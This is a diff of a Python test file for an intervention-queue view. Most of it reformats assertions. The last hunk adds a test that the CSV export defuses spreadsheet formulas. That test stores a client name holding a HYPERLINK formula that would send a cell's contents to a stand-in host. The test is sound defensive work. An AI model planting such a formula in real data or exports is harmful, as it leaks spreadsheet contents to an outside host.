@@ -86,7 +86,10 @@ def test_all_statuses_is_written_as_all():
 
 def test_status_choices_name_the_common_sets_and_keep_a_hand_made_one():
     assert queue_view.status_choice(OPEN_STATUSES) == "open"
-    assert queue_view.status_choice((InterventionStatus.IN_PROGRESS, InterventionStatus.PENDING)) == "open"
+    assert (
+        queue_view.status_choice((InterventionStatus.IN_PROGRESS, InterventionStatus.PENDING))
+        == "open"
+    )
     assert queue_view.status_choice(()) == "all"
     assert queue_view.status_choice((InterventionStatus.CANCELLED,)) == "cancelled"
     mixed = (InterventionStatus.PENDING, InterventionStatus.COMPLETED)
@@ -110,7 +113,9 @@ def test_a_control_change_goes_back_to_the_first_page_but_the_pager_does_not():
     assert (changed.priorities, changed.page) == ((Priority.URGENT,), 1)
     paged = filters_from_controls(filters, InterventionsIds.PAGER, {**values, "page": 2})
     assert paged == filters.replace(page=2)
-    assert filters_from_controls(changed, InterventionsIds.CLEAR, values) == queue_view.QueueFilters()
+    assert (
+        filters_from_controls(changed, InterventionsIds.CLEAR, values) == queue_view.QueueFilters()
+    )
     source = filters_from_controls(filters, InterventionsIds.SOURCE, {**values, "source": "manual"})
     assert source.source == Source.MANUAL
     assert queue_key(source) == "source=manual"
@@ -119,16 +124,18 @@ def test_a_control_change_goes_back_to_the_first_page_but_the_pager_does_not():
 def test_the_filters_in_words():
     names = {3: "Tom Ellis"}
     text = queue_view.filters_text(
-        queue_view.QueueFilters(priorities=(Priority.URGENT, Priority.HIGH), assignee=3, overdue_only=True),
+        queue_view.QueueFilters(
+            priorities=(Priority.URGENT, Priority.HIGH), assignee=3, overdue_only=True
+        ),
         names,
     )
     assert (
         text
         == "open · urgent or high priority · assigned to Tom Ellis · overdue only · priority, then due date"
     )
-    assert queue_view.filters_text(queue_view.QueueFilters(statuses=(), mine=True), names).startswith(
-        "all statuses · assigned to me"
-    )
+    assert queue_view.filters_text(
+        queue_view.QueueFilters(statuses=(), mine=True), names
+    ).startswith("all statuses · assigned to me")
 
 
 # -- due dates and rows ----------------------------------------------------------------
@@ -224,16 +231,24 @@ def test_queue_counts_follow_the_filters_over_every_open_intervention():
     )
     everyone = queue_view.queue_counts(open_frame, queue_view.QueueFilters(), user_id=None, now=NOW)
     assert everyone == queue_view.QueueCounts(open=4, overdue=2, due_soon=1)
-    mine = queue_view.queue_counts(open_frame, queue_view.QueueFilters(mine=True), user_id=3, now=NOW)
+    mine = queue_view.queue_counts(
+        open_frame, queue_view.QueueFilters(mine=True), user_id=3, now=NOW
+    )
     assert mine == queue_view.QueueCounts(open=2, overdue=1, due_soon=1)
     calls = queue_view.QueueFilters(
         types=(InterventionType.CALL,), priorities=(Priority.HIGH, Priority.LOW)
     )
-    assert queue_view.queue_counts(open_frame, calls, user_id=None, now=NOW) == queue_view.QueueCounts(2, 1, 1)
+    assert queue_view.queue_counts(
+        open_frame, calls, user_id=None, now=NOW
+    ) == queue_view.QueueCounts(2, 1, 1)
     pending = queue_view.QueueFilters(statuses=(InterventionStatus.PENDING,), overdue_only=True)
-    assert queue_view.queue_counts(open_frame, pending, user_id=None, now=NOW) == queue_view.QueueCounts(2, 2, 0)
+    assert queue_view.queue_counts(
+        open_frame, pending, user_id=None, now=NOW
+    ) == queue_view.QueueCounts(2, 2, 0)
     closed = queue_view.QueueFilters(statuses=(InterventionStatus.COMPLETED,))
-    assert queue_view.queue_counts(open_frame, closed, user_id=None, now=NOW) == queue_view.QueueCounts(0, 0, 0)
+    assert queue_view.queue_counts(
+        open_frame, closed, user_id=None, now=NOW
+    ) == queue_view.QueueCounts(0, 0, 0)
 
 
 def test_client_options_search_names_and_keep_the_chosen_one():
@@ -241,7 +256,10 @@ def test_client_options_search_names_and_keep_the_chosen_one():
         {"client_id": ["a", "b", "c"], "name": ["Amelia Hart", "Chidi Okafor", "Hartley Moss"]}
     )
     assert [o["value"] for o in queue_view.client_options(names, "hart")] == ["a", "c"]
-    assert [o["value"] for o in queue_view.client_options(names, "okafor", selected="a")] == ["a", "b"]
+    assert [o["value"] for o in queue_view.client_options(names, "okafor", selected="a")] == [
+        "a",
+        "b",
+    ]
     assert queue_view.client_options(names, "nobody") == []
 
 
@@ -334,11 +352,15 @@ def test_the_clients_risk_suggests_a_priority():
         Priority.URGENT,
     )
     assert (
-        form_view.client_hint(form_view.ClientRisk(55, RiskLevel.HIGH, dt.date(2026, 1, 15), None))[1]
+        form_view.client_hint(form_view.ClientRisk(55, RiskLevel.HIGH, dt.date(2026, 1, 15), None))[
+            1
+        ]
         == Priority.HIGH
     )
     assert (
-        form_view.client_hint(form_view.ClientRisk(85, RiskLevel.LOW, dt.date(2026, 1, 15), None))[1]
+        form_view.client_hint(form_view.ClientRisk(85, RiskLevel.LOW, dt.date(2026, 1, 15), None))[
+            1
+        ]
         == Priority.LOW
     )
     assert form_view.client_hint(None) == (
@@ -459,7 +481,10 @@ def test_completing_sends_the_outcome_and_the_clients_response():
 def test_notes_are_trimmed_and_limited():
     assert manage_view.check_note("  Called back.  ") == ("Called back.", None)
     assert manage_view.check_note("   ") == (None, None)
-    assert manage_view.check_note("x" * 5001) == (None, "Keep the note to 5,000 characters (5,001 now).")
+    assert manage_view.check_note("x" * 5001) == (
+        None,
+        "Keep the note to 5,000 characters (5,001 now).",
+    )
 
 
 # -- against a database ----------------------------------------------------------------
@@ -487,7 +512,9 @@ def test_queue_page_orders_pages_and_counts_from_the_database(
     add(Priority.HIGH, -50, status=InterventionStatus.COMPLETED, outcome=Outcome.RESOLVED)
     session.flush()
 
-    page = queue_view.queue_page(session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON)
+    page = queue_view.queue_page(
+        session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON
+    )
     # Urgent first, overdue before the rest; then high, then low; the completed one is not open.
     assert [row.id for row in page.rows] == [
         urgent_overdue.id,
@@ -499,7 +526,9 @@ def test_queue_page_orders_pages_and_counts_from_the_database(
     assert page.counts == queue_view.QueueCounts(open=4, overdue=1, due_soon=2)
     assert page.summary == "Interventions 1–4 of 4"
 
-    mine = queue_view.queue_page(session, queue_view.QueueFilters(mine=True), user_id=tom.id, now=now, zone=LONDON)
+    mine = queue_view.queue_page(
+        session, queue_view.QueueFilters(mine=True), user_id=tom.id, now=now, zone=LONDON
+    )
     assert [row.id for row in mine.rows] == [urgent_overdue.id, urgent_later.id, low.id]
 
     # A page past the end shows the last one.
@@ -508,5 +537,35 @@ def test_queue_page_orders_pages_and_counts_from_the_database(
     assert (last.page, last.total, len(last.rows)) == (1, 5, 5)
 
     assert [m.name for m in queue_view.team_members(session)] == ["Tom Ellis"]
-    export = queue_view.queue_export(session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON)
+    export = queue_view.queue_export(
+        session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON
+    )
     assert export["id"].tolist() == [urgent_overdue.id, urgent_later.id, high_soon.id, low.id]
+
+
+def test_the_queue_export_writes_a_formula_in_a_name_as_text(
+    session, make_client, make_intervention
+):
+    link = '=HYPERLINK("https://example.invalid/?d="&B3,"Open")'
+    make_client("c-1", name=link)
+    now = pd.Timestamp("2024-03-01 12:00", tz="UTC")
+    call = make_intervention(
+        "c-1",
+        title="+44 20 7946 0000 call back",
+        description="-",
+        due_date=dt.datetime(2024, 3, 2, 9, tzinfo=dt.UTC),
+    )
+    session.flush()
+
+    content = queue_view.queue_export_csv(
+        session, queue_view.QueueFilters(), user_id=None, now=now, zone=LONDON
+    )
+
+    [header, row] = content.decode("utf-8").splitlines()
+    assert header.startswith("id,client_id,client,title,")
+    # The id stays a number; the client's name, the title and the description are text.
+    assert row.startswith(
+        f'{call.id},c-1,"\'=HYPERLINK(""https://example.invalid/?d=""&B3,""Open"")",'
+        "'+44 20 7946 0000 call back,"
+    )
+    assert row.endswith(",'-")
